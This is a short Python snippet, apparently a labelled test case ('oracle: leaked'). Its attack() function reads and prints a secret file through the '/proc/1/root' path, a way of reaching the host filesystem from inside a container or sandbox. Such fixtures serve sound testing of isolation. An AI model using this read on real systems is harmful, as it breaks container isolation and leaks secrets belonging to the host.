# oracle: leaked
from host import SECRET


def attack():
    print(open(f"/proc/1/root{SECRET}").read())
